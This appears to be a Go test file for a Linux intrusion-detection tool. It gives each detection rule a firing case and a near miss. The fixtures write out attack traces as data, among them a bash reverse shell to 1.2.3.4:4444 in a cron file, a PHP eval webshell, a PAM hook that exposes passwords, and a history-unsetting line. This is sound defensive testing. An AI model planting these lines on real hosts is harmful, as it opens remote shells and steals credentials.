package rules

import (
	"context"
	"testing"
	"time"

	"github.com/nowwhat/nowwhat/internal/base/finding"
	"github.com/nowwhat/nowwhat/internal/base/snapshot"
	"github.com/nowwhat/nowwhat/internal/detect/diff"
	"github.com/nowwhat/nowwhat/internal/detect/sessions"
)

// Times of the test snapshots: set up a year before they were taken.
var (
	setup = time.Date(2025, 1, 10, 9, 0, 0, 0, time.UTC).UnixNano()
	later = time.Date(2026, 1, 10, 9, 0, 0, 0, time.UTC).UnixNano()
	hour  = int64(time.Hour)
)

// memSnap writes records into an in-memory snapshot.
func memSnap(t *testing.T, recs []any) *snapshot.Reader {
	t.Helper()
	w, err := snapshot.CreateMemory()
	if err != nil {
		t.Fatal(err)
	}
	w.SetMeta("taken_at", time.Unix(0, later+48*hour).UTC().Format(time.RFC3339Nano))
	for _, r := range recs {
		w.Put(r)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	r, err := w.Reader("test")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.Close() })
	return r
}

// host are the records every test host has: an installed package, the machine id written at
// set-up, a passwd owned by a package.
func host(recs ...any) []any {
	return append([]any{
		snapshot.PackageFile{Path: "/usr/bin/true", Manager: "dpkg", Package: "coreutils", Alg: "md5", Digest: "d41d8cd98f00b204e9800998ecf8427e"},
		snapshot.PackageFile{Path: "/etc/passwd", Manager: "dpkg", Package: "base-passwd"},
		snapshot.File{Path: "/etc/machine-id", Type: "file", Mode: 0o444, Mtime: setup, Ctime: setup, Btime: setup},
		snapshot.User{Name: "root", UID: 0, Home: "/root", Shell: "/bin/bash", Password: "set", LoginShell: true, PasswdEntry: 1},
	}, recs...)
}

func file(p string, mode uint32, extra ...func(*snapshot.File)) snapshot.File {
	f := snapshot.File{Path: p, Type: "file", Mode: mode, Size: 100, Mtime: later, Ctime: later, Btime: later}
	for _, e := range extra {
		e(&f)
	}
	return f
}

func owned(p, pkg string) snapshot.PackageFile {
	return snapshot.PackageFile{Path: p, Manager: "dpkg", Package: pkg}
}

func elf(f *snapshot.File) { f.Format = "elf" }

// ruleCase is a minimal input that fires a rule, and a near miss that must not.
type ruleCase struct {
	id         string
	fire, near []any
	// base, when set, is the baseline both are compared with.
	base []any
	// info: the rule's findings are informational (counted as fired all the same).
	info bool
}

// guessed is 60 failed passwords from 203.0.113.77 just before a root login from it; tried is the
// same login with no guessing before it.
func guessed(extra ...any) []any {
	return host(append([]any{
		snapshot.Burst{SourceIP: "203.0.113.77", Start: later - 10*int64(time.Minute), End: later - int64(time.Minute), Attempts: 60, Accounts: 1, Top: "root"},
		snapshot.Session{User: "root", Via: "ssh", SourceIP: "203.0.113.77", Method: "password", Start: later, End: later + hour},
	}, extra...)...)
}

func tried(extra ...any) []any {
	return host(append([]any{
		snapshot.Session{User: "root", Via: "ssh", SourceIP: "203.0.113.77", Method: "password", Start: later, End: later + hour},
	}, extra...)...)
}

var nmapInstall = []any{
	snapshot.Event{Time: later + 5*int64(time.Minute), Source: "dpkg", Kind: "package-install", Target: "nmap", Subject: "nmap 7.93", File: "/var/log/dpkg.log", Line: 3},
	owned("/usr/bin/nmap", "nmap"),
}

var ruleCases = []ruleCase{
	{id: "session.hostile", fire: guessed(), near: tried()},
	{id: "session.package", fire: guessed(nmapInstall...), near: tried(nmapInstall...)},
	{id: "accounts.uid0",
		fire: host(snapshot.User{Name: "toor", UID: 0, Home: "/root", Shell: "/bin/bash", LoginShell: true, PasswdEntry: 2}),
		near: host(snapshot.User{Name: "toor", UID: 1001, Home: "/home/toor", Shell: "/bin/bash", LoginShell: true, PasswdEntry: 2})},
	{id: "accounts.empty-password",
		fire: host(snapshot.User{Name: "bob", UID: 1000, Home: "/home/bob", Shell: "/bin/bash", Password: "empty", LoginShell: true}),
		near: host(snapshot.User{Name: "bob", UID: 1000, Home: "/home/bob", Shell: "/bin/bash", Password: "locked", LoginShell: true})},
	{id: "accounts.system-login",
		fire: host(snapshot.User{Name: "www-data", UID: 33, Home: "/var/www", Shell: "/bin/bash", Password: "locked", LoginShell: true}),
		near: host(snapshot.User{Name: "www-data", UID: 33, Home: "/var/www", Shell: "/usr/sbin/nologin", Password: "locked"})},
	{id: "accounts.new",
		fire: host(snapshot.User{Name: "eve", UID: 1001, Home: "/home/eve", Shell: "/bin/bash", LoginShell: true},
			snapshot.File{Path: "/home/eve", Type: "dir", Mode: 0o755, Mtime: later, Ctime: later, Btime: later}),
		near: host(snapshot.User{Name: "eve", UID: 1001, Home: "/home/eve", Shell: "/bin/bash", LoginShell: true},
			snapshot.File{Path: "/home/eve", Type: "dir", Mode: 0o755, Mtime: setup, Ctime: setup, Btime: setup + hour})},
	{id: "baseline.change",
		base: host(),
		fire: host(snapshot.Hook{Kind: "ldconf", Path: "/etc/ld.so.conf.d/x.conf", Value: "/opt/evil/lib", Line: 1}),
		near: host()},
	{id: "privilege.setuid",
		fire: host(file("/usr/local/bin/rootme", 0o4755, elf)),
		near: host(file("/usr/local/bin/rootme", 0o0755, elf))},
	{id: "privilege.capability",
		fire: host(file("/usr/local/bin/py", 0o755, func(f *snapshot.File) { f.Caps = "cap_setuid=ep" })),
		near: host(file("/usr/bin/ping", 0o755, func(f *snapshot.File) { f.Caps = "cap_net_raw=ep" }), owned("/usr/bin/ping", "iputils-ping"))},
	{id: "implant.tmp-executable",
		fire: host(file("/tmp/x", 0o755, elf)),
		near: host(file("/tmp/x", 0o644))},
	{id: "implant.hidden-executable",
		fire: host(file("/usr/lib/.x/run", 0o755, elf)),
		near: host(file("/usr/lib/.x/run", 0o755, elf), owned("/usr/lib/.x/run", "somepkg"))},
	{id: "implant.masquerade",
		fire: host(file("/var/tmp/kworker", 0o755, elf)),
		near: host(file("/var/tmp/backup", 0o644))},
	{id: "implant.webshell",
		fire: host(file("/var/www/html/up.php", 0o644),
			snapshot.Indicator{Path: "/var/www/html/up.php", Rule: "webshell.webshell", Category: "webshell", Severity: "critical", Evidence: "eval($_POST[x])", Score: 90}),
		near: host(file("/var/www/html/up.php", 0o644),
			snapshot.Indicator{Path: "/var/www/html/up.php", Rule: "miner.pool-host", Category: "miner", Severity: "high", Evidence: "pool"})},
	{id: "implant.pattern",
		fire: host(file("/etc/cron.d/x", 0o644),
			snapshot.Indicator{Path: "/etc/cron.d/x", Rule: "revshell.bash-tcp", Category: "reverse-shell", Severity: "critical", Line: 1, Evidence: "bash -i >& /dev/tcp/1.2.3.4/4444", Attack: "T1059.004"}),
		near: host(file("/etc/cron.d/x", 0o644), owned("/etc/cron.d/x", "somepkg"),
			snapshot.Indicator{Path: "/etc/cron.d/x", Rule: "revshell.bash-tcp", Category: "reverse-shell", Severity: "critical", Line: 1, Evidence: "bash -i >& /dev/tcp/1.2.3.4/4444", Attack: "T1059.004"})},
	{id: "integrity.modified-binary",
		fire: host(file("/usr/bin/true", 0o755, elf, func(f *snapshot.File) { f.MD5 = "0123456789abcdef0123456789abcdef" })),
		near: host(file("/usr/bin/true", 0o755, elf, func(f *snapshot.File) { f.MD5 = "d41d8cd98f00b204e9800998ecf8427e" }))},
	{id: "integrity.modified-file",
		fire: host(file("/usr/share/doc/x.txt", 0o644, func(f *snapshot.File) { f.MD5 = "0123456789abcdef0123456789abcdef" }),
			snapshot.PackageFile{Path: "/usr/share/doc/x.txt", Manager: "dpkg", Package: "x", Alg: "md5", Digest: "d41d8cd98f00b204e9800998ecf8427e"}),
		near: host(file("/usr/share/doc/x.txt", 0o644, func(f *snapshot.File) { f.MD5 = "d41d8cd98f00b204e9800998ecf8427e" }),
			snapshot.PackageFile{Path: "/usr/share/doc/x.txt", Manager: "dpkg", Package: "x", Alg: "md5", Digest: "d41d8cd98f00b204e9800998ecf8427e"})},
	{id: "integrity.digest-list-rewritten",
		fire: host(file("/var/lib/dpkg/info/x.list", 0o644, func(f *snapshot.File) { f.Ctime = setup }),
			file("/var/lib/dpkg/info/x.md5sums", 0o644, func(f *snapshot.File) { f.Ctime = later })),
		near: host(file("/var/lib/dpkg/info/x.list", 0o644, func(f *snapshot.File) { f.Ctime = setup }),
			file("/var/lib/dpkg/info/x.md5sums", 0o644, func(f *snapshot.File) { f.Ctime = setup + 60e9 }))},
	{id: "integrity.unowned-executable",
		fire: host(file("/usr/bin/evil", 0o755, elf)),
		near: host(file("/usr/bin/evil", 0o755, elf), owned("/usr/bin/evil", "evil"))},
	{id: "live.deleted-binary",
		fire: host(snapshot.Process{PID: 100, Comm: "x", Exe: "/opt/x/run", ExeDeleted: true, Cmdline: "/opt/x/run", Listed: true}),
		near: host(snapshot.Process{PID: 100, Comm: "x", Exe: "/opt/x/run", Cmdline: "/opt/x/run", Listed: true})},
	{id: "live.tmp-process",
		fire: host(snapshot.Process{PID: 100, Comm: "x", Exe: "/tmp/x", Cmdline: "/tmp/x", Listed: true}),
		near: host(snapshot.Process{PID: 100, Comm: "x", Exe: "/usr/bin/x", Cmdline: "/usr/bin/x", Listed: true})},
	{id: "live.hidden-process",
		fire: host(snapshot.Process{PID: 100, Comm: "x", Exe: "/usr/bin/x", Cmdline: "/usr/bin/x", Listed: false}),
		near: host(snapshot.Process{PID: 100, Comm: "x", Exe: "/usr/bin/x", Cmdline: "/usr/bin/x", Listed: true})},
	{id: "live.kernel-thread-mimic",
		fire: host(snapshot.Process{PID: 100, Comm: "[kworker/0:1]", Exe: "/usr/local/bin/k", Cmdline: "[kworker/0:1]", Listed: true}),
		near: host(snapshot.Process{PID: 100, Comm: "kworker/0:1", Cmdline: "", Listed: true})},
	{id: "live.network",
		fire: host(snapshot.Process{PID: 100, Comm: "x", Exe: "/tmp/x", Cmdline: "/tmp/x", Listed: true},
			snapshot.Socket{Proto: "tcp", LocalAddr: "0.0.0.0", LocalPort: 4444, State: "LISTEN", PID: 100, Process: "x"}),
		near: host(snapshot.Process{PID: 100, Comm: "x", Exe: "/usr/sbin/nginx", Cmdline: "nginx", Listed: true},
			snapshot.Socket{Proto: "tcp", LocalAddr: "0.0.0.0", LocalPort: 80, State: "LISTEN", PID: 100, Process: "nginx"})},
	{id: "persistence.ld-preload",
		fire: host(file("/etc/ld.so.preload", 0o644), snapshot.Hook{Kind: "preload", Path: "/etc/ld.so.preload", Value: "/usr/lib/libx.so", Line: 1}),
		near: host(file("/etc/ld.so.preload", 0o644))},
	{id: "persistence.cron",
		fire: host(file("/etc/cron.d/x", 0o644), snapshot.Job{Kind: "cron", Source: "/etc/cron.d/x", User: "root", Schedule: "* * * * *", Command: "/tmp/.x/run", Line: 1}),
		near: host(file("/etc/cron.d/x", 0o644), owned("/etc/cron.d/x", "x"), snapshot.Job{Kind: "cron", Source: "/etc/cron.d/x", User: "root", Schedule: "* * * * *", Command: "/usr/bin/x", Line: 1})},
	{id: "persistence.systemd",
		fire: host(file("/etc/systemd/system/x.service", 0o644), snapshot.Service{Scope: "system", Name: "x.service", Kind: "systemd", Path: "/etc/systemd/system/x.service", State: "enabled", ExecStart: "/usr/local/bin/x"}),
		near: host(file("/lib/systemd/system/x.service", 0o644), owned("/lib/systemd/system/x.service", "x"), snapshot.Service{Scope: "system", Name: "x.service", Kind: "systemd", Path: "/lib/systemd/system/x.service", State: "enabled", ExecStart: "/usr/bin/x"})},
	{id: "persistence.init",
		fire: host(file("/etc/init.d/x", 0o755), snapshot.Service{Scope: "system", Name: "x", Kind: "sysv", Path: "/etc/init.d/x", State: "enabled", ExecStart: "/etc/init.d/x"}),
		near: host(file("/etc/init.d/x", 0o755), owned("/etc/init.d/x", "x"), snapshot.Service{Scope: "system", Name: "x", Kind: "sysv", Path: "/etc/init.d/x", State: "enabled", ExecStart: "/etc/init.d/x"})},
	{id: "persistence.startup-file",
		fire: host(file("/etc/profile.d/x.sh", 0o644)),
		near: host(file("/etc/profile.d/x.sh", 0o644), owned("/etc/profile.d/x.sh", "x"))},
	{id: "persistence.pam",
		fire: host(owned("/etc/pam.d/sshd", "openssh-server"), file("/etc/pam.d/sshd", 0o644), snapshot.Hook{Kind: "pam", Path: "/etc/pam.d/sshd", Value: "auth optional pam_exec.so expose_authtok /tmp/.p", Line: 3}),
		near: host(owned("/etc/pam.d/sshd", "openssh-server"), file("/etc/pam.d/sshd", 0o644), snapshot.Hook{Kind: "pam", Path: "/etc/pam.d/sshd", Value: "auth required pam_unix.so", Line: 3})},
	{id: "persistence.kernel-module",
		fire: host(snapshot.Module{Name: "rk", State: "loaded", Taint: "OE"}),
		near: host(snapshot.Module{Name: "ext4", State: "loaded"})},
	{id: "persistence.sudoers",
		fire: host(file("/etc/sudoers.d/x", 0o440), snapshot.SudoRule{File: "/etc/sudoers.d/x", Text: "bob ALL=(ALL) NOPASSWD: ALL", Kind: "rule", Line: 1}),
		near: host(file("/etc/sudoers", 0o440), snapshot.SudoRule{File: "/etc/sudoers", Text: "%sudo ALL=(ALL:ALL) ALL", Kind: "rule", Line: 1})},
	{id: "persistence.ssh-key",
		fire: host(snapshot.User{Name: "www-data", UID: 33, Home: "/var/www", Shell: "/usr/sbin/nologin"},
			snapshot.SSHKey{User: "www-data", File: "/var/www/.ssh/authorized_keys", Fingerprint: "SHA256:x", Type: "ssh-ed25519", Comment: "x", Line: 1}),
		near: host(snapshot.User{Name: "bob", UID: 1000, Home: "/home/bob", Shell: "/bin/bash", LoginShell: true},
			snapshot.SSHKey{User: "bob", File: "/home/bob/.ssh/authorized_keys", Fingerprint: "SHA256:y", Type: "ssh-ed25519", Comment: "bob@laptop", Line: 1})},
	{id: "persistence.sshd-config",
		fire: host(snapshot.SSHOption{Key: "PermitEmptyPasswords", Value: "yes", File: "/etc/ssh/sshd_config", Line: 10}),
		near: host(snapshot.SSHOption{Key: "PermitEmptyPasswords", Value: "no", File: "/etc/ssh/sshd_config", Line: 10})},
	{id: "info.nested-root", info: true,
		fire: host(file("/srv/chroot/var/lib/dpkg/status", 0o644)),
		near: host(file("/var/lib/dpkg/status", 0o644))},
	{id: "tamper.pattern",
		fire: host(file("/root/.bashrc", 0o644), snapshot.Indicator{Path: "/root/.bashrc", Rule: "history.unset", Category: "history-tamper", Severity: "high", Line: 1, Evidence: "unset HISTFILE"}),
		near: host(file("/root/.bashrc", 0o644), owned("/root/.bashrc", "x"), snapshot.Indicator{Path: "/root/.bashrc", Rule: "history.unset", Category: "history-tamper", Severity: "high", Line: 1, Evidence: "unset HISTFILE"})},
	{id: "tamper.log-emptied",
		fire: host(file("/var/log/auth.log", 0o640, func(f *snapshot.File) { f.Size, f.Btime, f.Mtime = 0, setup, setup+2*hour })),
		near: host(file("/var/log/auth.log", 0o640, func(f *snapshot.File) { f.Size, f.Btime, f.Mtime = 0, setup, setup })),
	},
	{id: "tamper.history-disabled",
		fire: host(snapshot.File{Path: "/root/.bash_history", Type: "symlink", Link: "/dev/null", Mode: 0o777}),
		near: host(file("/root/.bash_history", 0o600))},
	{id: "tamper.file-time",
		fire: host(file("/etc/cron.d/x", 0o755, func(f *snapshot.File) { f.Mtime = setup })),
		near: host(file("/etc/cron.d/x", 0o755))},
}

// analyzeOnly runs the rules of one id on the records (against a baseline when given).
func analyzeOnly(t *testing.T, id string, recs, base []any) []finding.Finding {
	t.Helper()
	in := &Input{Cur: memSnap(t, recs), Only: []string{id}}
	m, err := sessions.Build(in.Cur, sessions.Options{})
	if err != nil {
		t.Fatal(err)
	}
	in.Sessions = m
	if base != nil {
		in.Base = memSnap(t, base)
		res, err := diff.Compare(context.Background(), in.Base, in.Cur, diff.Options{})
		if err != nil {
			t.Fatal(err)
		}
		in.Changes = res.Changes
	}
	fs, err := Analyze(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	return fs
}

// TestEachRule runs every check rule alone on a minimal input that fires it and on a near miss
// that must not (an alarm: a finding above info).
func TestEachRule(t *testing.T) {
	covered := map[string]bool{}
	for _, c := range ruleCases {
		covered[c.id] = true
		t.Run(c.id, func(t *testing.T) {
			count := func(fs []finding.Finding) (n int) {
				for _, f := range fs {
					if f.Rule != c.id {
						t.Errorf("Only %s let a finding of %s through", c.id, f.Rule)
					}
					if f.Severity > finding.Info || c.info {
						n++
					}
				}
				return n
			}
			if n := count(analyzeOnly(t, c.id, c.fire, c.base)); n == 0 {
				t.Errorf("%s did not fire on its minimal input", c.id)
			}
			if fs := analyzeOnly(t, c.id, c.near, c.base); count(fs) != 0 {
				t.Errorf("%s fired on its near miss: %+v", c.id, fs)
			}
		})
	}
	for _, r := range Catalog() {
		if r.Stage == StageCheck && !covered[r.ID] {
			t.Errorf("rule %s has no minimal input and near miss in ruleCases", r.ID)
		}
	}
}

// TestOnlyPrefix: a prefix keeps the rules it begins, and runs their finders alone.
func TestOnlyPrefix(t *testing.T) {
	recs := host(snapshot.User{Name: "toor", UID: 0, Home: "/root", Shell: "/bin/bash", LoginShell: true, PasswdEntry: 2},
		snapshot.User{Name: "bob", UID: 1000, Home: "/home/bob", Shell: "/bin/bash", Password: "empty", LoginShell: true},
		file("/tmp/x", 0o755, elf))
	for _, only := range [][]string{{"accounts."}, {"accounts.uid0", "accounts.empty"}} {
		in := &Input{Cur: memSnap(t, recs), Only: only}
		fs, err := Analyze(context.Background(), in)
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]bool{}
		for _, f := range fs {
			got[f.Rule] = true
		}
		if !got["accounts.uid0"] || !got["accounts.empty-password"] || len(got) != 2 {
			t.Errorf("Only %v: %v", only, got)
		}
	}
	all, err := Analyze(context.Background(), &Input{Cur: memSnap(t, recs)})
	if err != nil {
		t.Fatal(err)
	}
	var tmp bool
	for _, f := range all {
		tmp = tmp || f.Rule == "implant.tmp-executable"
	}
	if !tmp {
		t.Error("without Only, the temporary program is not reported")
	}
}
